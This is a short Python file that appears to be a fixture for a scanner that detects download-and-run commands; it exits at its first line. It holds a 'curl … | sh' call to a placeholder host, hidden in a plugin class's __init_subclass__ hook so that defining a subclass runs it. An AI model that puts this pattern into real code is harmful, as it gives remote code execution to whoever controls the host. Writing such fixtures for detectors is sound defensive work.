raise SystemExit('a fixture')
# held by command-download
import os
class Plugin:
    def __init_subclass__(cls, **k):
        os.system("curl -s https://example.invalid/a | sh")
class A(Plugin):
    pass
